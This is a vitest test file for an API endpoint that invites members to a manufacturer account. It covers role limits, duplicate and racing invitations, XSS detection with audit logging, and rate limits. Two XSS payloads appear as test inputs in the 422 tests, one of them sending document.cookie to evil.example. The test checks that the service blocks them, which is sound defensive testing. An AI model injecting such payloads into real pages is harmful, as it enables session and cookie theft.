import { describe, expect, test } from "vitest";
import { countCalls } from "../../support/count-calls.ts";
import {
  inviteMember,
  newEmail,
  password,
  sendInvitation,
  signIn,
  signUpWithFactor,
} from "../../support/manufacturer.ts";
import { problemAnswer } from "../../support/problem-answer.ts";
import { useStack } from "../../support/stack.ts";

const stack = useStack();
const invite = (token: string, body: Record<string, unknown> = {}) =>
  stack.http.post("/v1/members", {
    token,
    body: { name: "Jonas Weber", email: newEmail(), role: "viewer", ...body },
  });

describe("201", () => {
  test("whoever is invited is a member who cannot sign in yet", async () => {
    const owner = await signUpWithFactor(stack);
    const { status, body } = await invite(owner.accessToken);
    expect(status).toBe(201);
    const { body: list } = await stack.http.get("/v1/members", { token: owner.accessToken });
    expect(list.items).toContainEqual(
      expect.objectContaining({
        memberId: body.memberId,
        status: "invited",
        roles: ["viewer"],
        invitation: { invitedBy: owner.memberId, expiresAt: expect.any(String) },
      }),
    );
  });

  test("the answer does not tell whether the address has an account", async () => {
    const [owner, stranger] = [await signUpWithFactor(stack), await signUpWithFactor(stack)];
    const known = await invite(owner.accessToken, { email: stranger.email });
    expect(known).toMatchObject({ status: 201, body: { memberId: expect.any(String) } });
  });

  test("warm, it costs one fresh look at the inviter and one transaction", async () => {
    const { accessToken } = await signUpWithFactor(stack);
    await invite(accessToken);
    expect(await countCalls(stack, () => invite(accessToken))).toEqual({ dynamodb: 2, kms: 0 });
  });
});

describe("400", () => {
  test("nobody becomes a platform operator by an invitation of a manufacturer", async () => {
    const owner = await signUpWithFactor(stack);
    const answer = await invite(owner.accessToken, { role: "operator" });
    expect(answer).toMatchObject(
      problemAnswer("invalid-request", {
        errors: [{ pointer: "/body/role", code: "not-allowed" }],
      }),
    );
  });
});

describe("403", () => {
  test("an admin does not make owners", async () => {
    const owner = await signUpWithFactor(stack);
    const admin = await inviteMember(stack, owner, "admin");
    const answer = await invite(admin.accessToken, { role: "owner" });
    expect(answer).toMatchObject(problemAnswer("role-above-own"));
    expect((await invite(admin.accessToken, { role: "admin" })).status).toBe(201);
  });

  test("an editor invites nobody", async () => {
    const owner = await signUpWithFactor(stack);
    const editor = await inviteMember(stack, owner, "editor");
    expect(await invite(editor.accessToken)).toMatchObject(problemAnswer("forbidden"));
  });
});

describe("409", () => {
  test("an address has one open invitation of a manufacturer, free again once that is withdrawn", async () => {
    const { accessToken } = await signUpWithFactor(stack);
    const email = newEmail();
    const { body } = await invite(accessToken, { email });
    expect(await invite(accessToken, { email, role: "editor" })).toMatchObject(
      problemAnswer("already-invited", { memberId: body.memberId }),
    );
    await stack.http.delete(`/v1/members/${body.memberId}`, { token: accessToken });
    expect((await invite(accessToken, { email, role: "editor" })).status).toBe(201);
  });

  test("of racing invitations of one address one is sent", async () => {
    const { accessToken } = await signUpWithFactor(stack);
    const email = newEmail();
    await invite(accessToken);
    const answers = await Promise.all(
      Array.from({ length: 3 }, () => invite(accessToken, { email })),
    );
    expect(answers.filter(({ status }) => status === 201)).toHaveLength(1);
    const { body } = await stack.http.get("/v1/members", { token: accessToken });
    const listed = body.items.filter((member: { email: string }) => member.email === email);
    expect(listed).toHaveLength(1);
  });

  test("a member's address is not invited again", async () => {
    const owner = await signUpWithFactor(stack);
    const viewer = await inviteMember(stack, owner, "viewer");
    const answer = await invite(owner.accessToken, { email: viewer.email, role: "editor" });
    expect(answer).toMatchObject(problemAnswer("already-a-member"));
  });

  test("an address that another manufacturer invited is answered as an unknown one", async () => {
    const [owner, other] = [await signUpWithFactor(stack), await signUpWithFactor(stack)];
    const { email } = await sendInvitation(stack, other, "viewer");
    expect((await invite(owner.accessToken, { email })).status).toBe(201);
  });
});

describe("422", () => {
  test("a name that is an attack is refused by kind and place, one that only looks odd is not", async () => {
    const { accessToken } = await signUpWithFactor(stack);
    const attack = await invite(accessToken, { name: "<script>alert(document.cookie)</script>" });
    expect(attack).toMatchObject(
      problemAnswer("threat-detected", { errors: [{ pointer: "/body/name", code: "xss" }] }),
    );
    expect((await invite(accessToken, { name: "Sean O'Hara -- Union Ave" })).status).toBe(201);
  });

  test("an attack is in the audit trail and an event, by kind and sender and without what was sent", async () => {
    const owner = await signUpWithFactor(stack);
    const name = "<script>fetch('//evil.example/'+document.cookie)</script>";
    expect((await invite(owner.accessToken, { name })).status).toBe(422);
    const { body } = await stack.http.get("/v1/audit", { token: owner.accessToken });
    const record = body.items.find(
      ({ action }: { action: string }) => action === "threats.attack.blocked",
    );
    expect(record).toMatchObject({
      outcome: "failure",
      actorId: owner.memberId,
      details: { operation: "createMember", types: ["xss"], riskLevel: expect.any(String) },
    });
    await stack.settled();
    const events = stack.events().filter((sent) => JSON.stringify(sent).includes(record.recordId));
    expect(events.map((sent) => sent["detail-type"])).toEqual(["threats.attack.blocked"]);
    expect(JSON.stringify([record, events])).not.toContain("evil");
  });
});

describe("429", () => {
  test("an address is not flooded with invitations", async () => {
    const owner = await signUpWithFactor(stack);
    const { email, memberId } = await sendInvitation(stack, owner, "viewer");
    const withdraw = (id: string) =>
      stack.http.delete(`/v1/members/${id}`, { token: owner.accessToken });
    await withdraw(memberId);
    let answer = await invite(owner.accessToken, { email });
    for (let count = 0; answer.status === 201 && count < 10; count++) {
      await withdraw(answer.body.memberId);
      answer = await invite(owner.accessToken, { email });
    }
    expect(answer).toMatchObject(problemAnswer("too-many-mails"));
    expect(answer.headers.get("retry-after")).toBe("3600");
  });

  test("a manufacturer invites 30 people within an hour, however many requests race, and goes on in the next", async () => {
    const { accessToken, email } = await signUpWithFactor(stack);
    for (let count = 1; count < 30; count += 1) await invite(accessToken);
    const askedMs = stack.now();
    const answers = await Promise.all(Array.from({ length: 4 }, () => invite(accessToken)));
    const secondsLeftAt = (timeMs: number) => Math.ceil((3_600_000 - (timeMs % 3_600_000)) / 1000);
    const refused = answers.filter(({ status }) => status !== 201);
    expect(refused).toHaveLength(3);
    for (const answer of refused) {
      expect(answer).toMatchObject(problemAnswer("too-many-invitations"));
      const retryAfter = Number(answer.headers.get("retry-after"));
      expect(retryAfter).toBeLessThanOrEqual(secondsLeftAt(askedMs));
      expect(retryAfter).toBeGreaterThanOrEqual(secondsLeftAt(stack.now()));
    }
    const { body } = await stack.http.get("/v1/members", { token: accessToken });
    expect(body.items).toHaveLength(31);
    stack.advanceClock(3_600);
    const { accessToken: token } = await signIn(stack, { email, password });
    expect((await invite(token)).status).toBe(201);
  });
});
